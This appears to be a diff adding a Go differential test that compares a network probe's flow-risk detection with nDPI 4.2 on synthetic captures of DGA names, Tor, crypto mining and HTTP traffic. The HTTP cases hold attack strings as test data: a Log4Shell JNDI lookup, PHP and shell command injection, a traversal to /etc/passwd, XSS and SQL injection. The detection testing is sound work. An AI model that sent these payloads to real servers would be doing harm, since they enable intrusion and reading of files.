@@ -1,0 +1,358 @@
+package flowtable_test
+
+import (
+	"bufio"
+	"bytes"
+	"fmt"
+	"net"
+	"net/netip"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/gopacket/gopacket/layers"
+
+	"github.com/probe-appliance/probe/controlplane/flowtable"
+	"github.com/probe-appliance/probe/controlplane/l7"
+	"github.com/probe-appliance/probe/internal/fixture"
+)
+
+// ndpiRiskText is how ndpiReader 4.2 prints the risks this differential
+// test compares (ndpi_risk2str); a risk the probe raises that is not here
+// is not compared yet.
+var ndpiRiskText = map[l7.Risk]string{
+	l7.RiskSuspiciousDGADomain:     "Suspicious DGA Domain name",
+	l7.RiskUnsafeProtocol:          "Unsafe Protocol",
+	l7.RiskURLPossibleXSS:          "XSS Attack",
+	l7.RiskURLPossibleSQLInjection: "SQL Injection",
+	l7.RiskURLPossibleRCEInjection: "RCE Injection",
+	l7.RiskHTTPSuspiciousUserAgent: "HTTP Suspicious User-Agent",
+	l7.RiskNumericIPHost:           "HTTP Numeric IP Address",
+	l7.RiskHTTPSuspiciousURL:       "HTTP Suspicious URL",
+	l7.RiskHTTPSuspiciousContent:   "HTTP Suspicious Content",
+	l7.RiskPossibleExploit:         "Possible Exploit Detected",
+	// What ndpiReader raises on ntopng's captures besides.
+	l7.RiskTLSObsoleteVersion:          "Obsolete TLS Version (1.1 or older)",
+	l7.RiskTLSCertificateExpired:       "TLS Expired Certificate",
+	l7.RiskTLSCertificateMismatch:      "TLS Certificate Mismatch",
+	l7.RiskTLSNotCarryingHTTPS:         "TLS (probably) Not Carrying HTTPS",
+	l7.RiskTLSFatalAlert:               "TLS Fatal Alert",
+	l7.RiskTLSCertificateAboutToExpire: "TLS Certificate About To Expire",
+}
+
+var ndpiRiskField = regexp.MustCompile(`\[Risk: ([^\]]*)\]`)
+
+// ndpiReaderRisks runs ndpiReader on a capture and returns, by flowKey,
+// the compared risks it printed for each flow.
+func ndpiReaderRisks(t *testing.T, pcap string) map[string][]l7.Risk {
+	t.Helper()
+	byText := map[string]l7.Risk{}
+	for r, s := range ndpiRiskText {
+		byText[s] = r
+	}
+	bin := fixture.Tool(t, "ndpiReader")
+	var out, errb bytes.Buffer
+	cmd := exec.Command(bin, "-i", pcap, "-v", "2", "-q")
+	cmd.Stdout, cmd.Stderr = &out, &errb
+	if err := cmd.Run(); err != nil {
+		t.Fatalf("ndpiReader %s: %v\n%s", pcap, err, errb.String())
+	}
+	flows := map[string][]l7.Risk{}
+	sc := bufio.NewScanner(&out)
+	sc.Buffer(nil, 1<<20)
+	for sc.Scan() {
+		m := ndpiFlowLine.FindStringSubmatch(sc.Text())
+		if m == nil {
+			continue
+		}
+		a, err1 := netip.ParseAddrPort(m[2])
+		b, err2 := netip.ParseAddrPort(m[3])
+		if err1 != nil || err2 != nil {
+			t.Fatalf("ndpiReader line %q: %v %v", sc.Text(), err1, err2)
+		}
+		var risks []l7.Risk
+		if rm := ndpiRiskField.FindStringSubmatch(sc.Text()); rm != nil {
+			for _, s := range strings.Split(rm[1], "**") {
+				if r, ok := byText[strings.TrimSpace(s)]; ok {
+					risks = append(risks, r)
+				}
+			}
+		}
+		slices.Sort(risks)
+		flows[flowKey(m[1], a, b)] = risks
+	}
+	if len(flows) == 0 {
+		t.Fatalf("ndpiReader printed no flows for %s:\n%s", pcap, out.String())
+	}
+	return flows
+}
+
+// probeRisks is the compared risks of each flow of the capture, by flowKey.
+func probeRisks(t *testing.T, pcap string) (map[string][]l7.Risk, map[string]string) {
+	t.Helper()
+	tb := replayFile(t, pcap)
+	flows, names := map[string][]l7.Risk{}, map[string]string{}
+	tb.View(func(v flowtable.View) {
+		v.EachFlow(func(f *flowtable.Flow) {
+			if f.Retired() {
+				return
+			}
+			proto := map[uint8]string{1: "ICMP", 6: "TCP", 17: "UDP", 58: "ICMPV6"}[f.Proto]
+			if proto == "" {
+				proto = fmt.Sprint(f.Proto)
+			}
+			k := flowKey(proto, netip.AddrPortFrom(f.Client, f.ClientPort), netip.AddrPortFrom(f.Server, f.ServerPort))
+			var risks []l7.Risk
+			f.Risks().Risks.Each(func(r l7.Risk) {
+				if _, ok := ndpiRiskText[r]; ok {
+					risks = append(risks, r)
+				}
+			})
+			flows[k], names[k] = risks, f.ServerName
+		})
+	})
+	return flows, names
+}
+
+// dgaCaptureNames are the names of the generated DGA capture: generated
+// and ordinary names from the golden file's edges, Tor's random SNIs, names
+// longer than the 79 characters nDPI keeps, and names under nDPI's DGA
+// exceptions.
+var dgaCaptureNames = []string{
+	"www.q4cyamnc6mtokjurvdclt.com", "www.gfu7hbxpfp.com", "www.e6r5p57kbafwrxj3plz.com",
+	"www.jmts2id.com", "www.ct7ctrgb6cr7.com", "www.6gyip7tqim7sieb.com",
+	"lbnvwjfkqsjvmkpb.com", "qyvadtexhkzv.net", "xjpakmdcfuqe.org", "kqqewbjcgqfp.ru",
+	"1h3cq9cqs5d0q1klh8b8z0q5ux.org", "cgqyqnuryhhbyuyh.tw", "cdn.krxd.net",
+	"www.wikipedia.org", "packages.debian.org", "www.example.com", "stackoverflow.com",
+	"my-very-long-hostname-here.example.com", "abc12.com", "aaaaaaa.com", "a.b.c.d.e.f.g.com",
+	"mzxw6ytboi2dambqgezdgnbvgy3tqojqgezdgnbvgy3tqojq.x.example.com",
+	// Longer than 79: nDPI keeps the last 79 characters. The first name is
+	// generated in its first 79 only.
+	"qzxwvkjpqzxw.internationalbusinessmachinescorporation.supercalifragilisticexpialidocious.com",
+	"qwrtypsdfgzxkvbnmlkjhgfdsq.example.com.with.many.labels.that.go.on.and.on.example.org",
+	"news.example.com.more.labels.here.to.pass.seventy.nine.characters.qzxwvkjpqzxwvkjpqzxw.com",
+	// nDPI's DGA exceptions.
+	"qzxwvkjpq.e5.sk", "qzxwvkjpq.sophosxl.net", "qzxwvkjpq.ras.microsoft.com",
+}
+
+// dgaHTTPHosts are Host values with a port: nDPI scores the value as sent.
+var dgaHTTPHosts = []string{"qyvadtexhkzv.net:8080", "www.example.com:8080", "cdn.krxd.net:80", "abc.qzxw.net:12345"}
+
+// dgaOtherDNS are queried over mDNS and LLMNR.
+var dgaOtherDNS = []string{"lbnvwjfkqsjvmkpb.com", "qyvadtexhkzv.net", "www.example.com"}
+
+// TestRisksMatchNDPIReader is the differential test of the flow risks
+// against the real nDPI 4.2: on ntopng's captures and a generated one,
+// every flow has the compared risks ndpiReader prints, no more, no fewer.
+func TestRisksMatchNDPIReader(t *testing.T) {
+	captures := []string{
+		fixture.Shared(t, ntopngE2E+"/pcap/test_01.pcap"),
+		fixture.Shared(t, ntopngE2E+"/pcap/test_02.pcap"),
+		writeNameCapture(t, "dga.pcap", dgaCaptureNames, dgaHTTPHosts, dgaOtherDNS),
+		writeTorCapture(t),
+		writeMiningCapture(t),
+		writeHTTPRiskCapture(t),
+	}
+	usedHTTP := map[string]bool{}
+	for _, pcap := range captures {
+		base := filepath.Base(pcap)
+		ndpi := ndpiReaderRisks(t, pcap)
+		ours, names := probeRisks(t, pcap)
+		keys := slices.Sorted(func(yield func(string) bool) {
+			for k := range ndpi {
+				if !yield(k) {
+					return
+				}
+			}
+		})
+		risky, same := 0, 0
+		for _, k := range keys {
+			got, ok := ours[k]
+			if !ok {
+				if len(ndpi[k]) > 0 {
+					t.Errorf("%s: %s: nDPI has the flow with %v, the table does not", base, k, ndpi[k])
+				}
+				continue
+			}
+			if len(ndpi[k]) > 0 {
+				risky++
+			}
+			if slices.Equal(got, ndpi[k]) {
+				same++
+				continue
+			}
+			if d, ok := httpKnownDifferences[names[k]]; ok && base == "http.pcap" && slices.Equal(d.ndpi, ndpi[k]) && len(got) == 0 {
+				usedHTTP[names[k]] = true
+				continue
+			}
+			t.Errorf("%s: %s (%s): probe raises %v, nDPI 4.2 %v", base, k, names[k], got, ndpi[k])
+		}
+		t.Logf("%s: %d flows agree with nDPI, %d of them with compared risks", base, same, risky)
+		if risky == 0 {
+			t.Errorf("%s: nDPI raised none of the compared risks: the capture tests nothing", base)
+		}
+	}
+	for host, d := range httpKnownDifferences {
+		if !usedHTTP[host] {
+			t.Errorf("known difference no longer seen, drop it: %s %v (%s)", host, d.ndpi, d.why)
+		}
+	}
+}
+
+// writeTorCapture: TLS to addresses of nDPI's Tor list, other traffic to
+// one, TLS with Tor's random SNIs and with names nDPI's host table gives
+// an unsafe application.
+func writeTorCapture(t *testing.T) string {
+	t.Helper()
+	w := newCapWriter(t, "tor.pcap")
+	cli := net.IP{192, 0, 2, 10}
+	srv := func(i int) net.IP { return net.IP{198, 51, 100, byte(10 + i)} }
+	w.tcpConn(cli, net.IP{2, 26, 247, 176}, 20001, 443, clientHello("www.example.com"))
+	w.tcpConn(cli, net.IP{2, 31, 116, 225}, 20002, 9001, bytes.Repeat([]byte{0x5a, 0x17, 0x9a}, 16))
+	w.udp(cli, net.IP{2, 34, 104, 169}, 20003, 9001, bytes.Repeat([]byte{0x5a}, 40))
+	for i, sni := range []string{
+		"www.q4cyamnc6mtokjurvdclt.com", "www.gfu7hbxpfp.com", "www.e6r5p57kbafwrxj3plz.net",
+		"www.jmts2id.com", "www.t3i3ru.com", "qyvadtexhkzv.net", "www.qyvadtexhkzv.org",
+		"dist.torproject.org", "www.torrentz.eu", "www.example.com",
+	} {
+		w.tcpConn(cli, srv(i), uint16(21000+i), 443, clientHello(sni))
+	}
+	return w.Path
+}
+
+// writeMiningCapture: Stratum and Ethereum JSON-RPC on pool ports,
+// Bitcoin from and to port 8333, ordinary JSON and traffic that must not
+// be Mining, and a TLS connection to a browser miner's host.
+func writeMiningCapture(t *testing.T) string {
+	t.Helper()
+	w := newCapWriter(t, "mining.pcap")
+	cli := net.IP{192, 0, 2, 10}
+	srv := func(i int) net.IP { return net.IP{198, 51, 100, byte(10 + i)} }
+	subscribe := []byte(`{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}` + "\n")
+	notify := []byte(`{"id":null,"method":"mining.notify","params":["bf","4d16b6f85af6e2198f44ae2a6de67f78487ae5611b77c6c0440b921e00000000"]}` + "\n")
+	login := []byte(`{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"44AFFq5kSiGBoZ","pass":"x","agent":"xmrig/6.16.4"}}` + "\n")
+	job := []byte(`{"jsonrpc":"2.0","method":"job","params":{"blob":"0707d5efb9ee0565","job_id":"q7PLUPL25UV0","target":"b88d0600"}}` + "\n")
+	getwork := []byte(`{"worker": "rig1", "jsonrpc": "2.0", "params": [], "id": 1, "method": "eth_getWork"}`)
+	version := append(append([]byte{}, 0xf9, 0xbe, 0xb4, 0xd9), []byte("version\x00\x00\x00\x00\x00\x64\x00\x00\x00\x35\x8d\x49\x32")...)
+	w.tcpConn(cli, srv(0), 21000, 3333, subscribe, notify)
+	w.tcpConn(cli, srv(1), 21001, 4444, login, job)
+	w.tcpConn(cli, srv(2), 21002, 8008, getwork)
+	w.tcpConn(cli, srv(3), 21003, 8333, nil, version) // the node on 8333 speaks first
+	w.tcpConn(cli, srv(4), 21004, 8333, version)      // the client speaks first: not from 8333
+	w.tcpConn(cli, srv(5), 21005, 7000, []byte(`{"id":7,"result":{"ok":true}}`))
+	w.tcpConn(cli, srv(6), 21006, 7001, []byte("hello there, nothing to see"), subscribe)
+	w.tcpConn(cli, srv(7), 21007, 443, clientHello("coinhive.com"))
+	w.udp(cli, net.IP{203, 0, 113, 53}, 21008, 53, dnsQuery(0x3000, "coin-hive.com"))
+	// Ethereum discovery: sizes and types on the rule's edges.
+	for i, d := range []struct {
+		n   int
+		typ byte
+	}{{98, 1}, {99, 1}, {1279, 4}, {1280, 1}, {200, 5}, {200, 0}} {
+		w.udp(cli, srv(20+i), uint16(24000+i), 30303, devp2p(d.n, d.typ))
+		w.udp(cli, srv(30+i), 30303, uint16(25000+i), devp2p(d.n, d.typ))
+	}
+	w.udp(cli, net.IP{255, 255, 255, 255}, 24100, 30303, devp2p(200, 1))
+	return w.Path
+}
+
+// httpRiskCase is one HTTP exchange of the generated HTTP capture; each
+// has its own Host, which names it in the known differences.
+type httpRiskCase struct {
+	host, target, ua string
+	respHead, body   string // body "" : none; sent with the head unless split
+	split            bool   // the body comes in the server's next segment
+}
+
+var httpRiskCases = []httpRiskCase{
+	{host: "plain.example", target: "/index.html", ua: "Mozilla/5.0 (X11; Linux x86_64)", respHead: "Content-Type: text/html", body: "<html></html>"},
+	{host: "log4shell.example", target: "/", ua: "${jndi:ldap://198.51.100.66/a}", respHead: "Content-Type: text/html", body: "<html>"},
+	{host: "php.example", target: "/", ua: "<?php system('id'); ?>"},
+	{host: "url.example", target: "/", ua: "Mozilla/5.0 http://bot.example/info"},
+	{host: "short.example", target: "/", ua: "abc"},
+	{host: "testtool.example", target: "/", ua: "test-agent/1.0"},
+	{host: "brace.example", target: "/", ua: "curl {x}"},
+	{host: "long.example", target: "/", ua: strings.Repeat("Mozilla/5.0 ", 25)},
+	{host: "traversal.example", target: "/a/../../etc/passwd", ua: "Mozilla/5.0"},
+	{host: "dots.example", target: "/file..txt?x=1", ua: "Mozilla/5.0"},
+	{host: "192.0.2.200", target: "/", ua: "Mozilla/5.0"},
+	{host: "192.0.2.201:8080", target: "/", ua: "Mozilla/5.0"},
+	{host: "[2001:db8::1]", target: "/", ua: "Mozilla/5.0"},
+	{host: "010.1.1.1", target: "/", ua: "Mozilla/5.0"},
+	{host: "binary.example", target: "/", ua: "Mozilla/5.0", respHead: "Content-Type: text/html", body: "\x00\x01\x02\x03binary"},
+	{host: "gzip.example", target: "/", ua: "Mozilla/5.0", respHead: "Content-Type: application/json", body: "\x1f\x8b\x08\x00zipped"},
+	{host: "later.example", target: "/", ua: "Mozilla/5.0", respHead: "Content-Type: text/plain", body: "\x7f\x80\x81\x82", split: true},
+	{host: "image.example", target: "/", ua: "Mozilla/5.0", respHead: "Content-Type: image/png", body: "\x89PNG\r\n"},
+	{host: "form.example", target: "/", ua: "Mozilla/5.0", respHead: "Content-Type: application/x-www-form-urlencoded", body: "\xff\xfeab"},
+	// RCE needs a PCRE build of nDPI: Debian's 4.2 raises none.
+	{host: "rce.example", target: "/run?cmd=;cat%20/etc/passwd&x=$(id)", ua: "Mozilla/5.0"},
+	{host: "rce2.example", target: "/run?c=powershell.exe%20-EncodedCommand%20AA", ua: "Mozilla/5.0"},
+	// libinjection's (not ported): known differences.
+	{host: "xss.example", target: "/search?q=<script>alert(1)</script>", ua: "Mozilla/5.0"},
+	{host: "sqli.example", target: "/item?id=1'%20OR%20'1'='1", ua: "Mozilla/5.0"},
+}
+
+// httpKnownDifferences are the HTTP capture's flows (by Host) where the
+// probe does not raise what nDPI 4.2 raises, with the reason.
+var httpKnownDifferences = map[string]struct {
+	ndpi []l7.Risk
+	why  string
+}{
+	"xss.example":  {[]l7.Risk{l7.RiskURLPossibleXSS}, "ndpi_validate_url's libinjection checks are not ported (no Go port on the module proxy)"},
+	"sqli.example": {[]l7.Risk{l7.RiskURLPossibleSQLInjection}, "ndpi_validate_url's libinjection checks are not ported (no Go port on the module proxy)"},
+}
+
+func writeHTTPRiskCapture(t *testing.T) string {
+	t.Helper()
+	w := newCapWriter(t, "http.pcap")
+	cli := net.IP{192, 0, 2, 10}
+	for i, c := range httpRiskCases {
+		req := []byte("GET " + c.target + " HTTP/1.1\r\nHost: " + c.host + "\r\nUser-Agent: " + c.ua + "\r\nAccept: */*\r\n\r\n")
+		head := "HTTP/1.1 200 OK\r\nServer: test\r\n"
+		if c.respHead != "" {
+			head += c.respHead + "\r\n"
+		}
+		head += "Content-Length: " + strconv.Itoa(len(c.body)) + "\r\n\r\n"
+		srv := net.IP{198, 51, 100, byte(10 + i)}
+		if c.split {
+			w.tcpConn(cli, srv, uint16(22000+i), 80, req, []byte(head), nil, []byte(c.body))
+		} else {
+			w.tcpConn(cli, srv, uint16(22000+i), 80, req, []byte(head+c.body))
+		}
+	}
+	return w.Path
+}
+
+// writeMidStreamCapture: connections whose first packets were missed (no
+// SYN, no banner): SSH on its port, SSH on another port, and an unknown
+// service, each a few encrypted-looking segments both ways.
+func writeMidStreamCapture(t *testing.T) string {
+	t.Helper()
+	w := newCapWriter(t, "midstream.pcap")
+	cli := net.IP{192, 0, 2, 10}
+	for i, port := range []uint16{22, 2222, 7777} {
+		srv := net.IP{198, 51, 100, byte(10 + i)}
+		cs, ss := uint32(77000), uint32(99000)
+		for j := range 6 {
+			p := bytes.Repeat([]byte{byte(0x30 + j), 0xa7, 0x5c, 0x01}, 12)
+			if j%2 == 0 {
+				w.packet(cli, srv, &layers.TCP{SrcPort: layers.TCPPort(23000 + i), DstPort: layers.TCPPort(port), Seq: cs, Ack: ss, ACK: true, PSH: true, Window: 1024}, p)
+				cs += uint32(len(p))
+			} else {
+				w.packet(srv, cli, &layers.TCP{SrcPort: layers.TCPPort(port), DstPort: layers.TCPPort(23000 + i), Seq: ss, Ack: cs, ACK: true, PSH: true, Window: 1024}, p)
+				ss += uint32(len(p))
+			}
+		}
+	}
+	return w.Path
+}
+
+// devp2p is an Ethereum discovery datagram of n bytes with packet type typ.
+func devp2p(n int, typ byte) []byte {
+	p := bytes.Repeat([]byte{0xa5}, n)
+	p[97] = typ
+	return p
+}
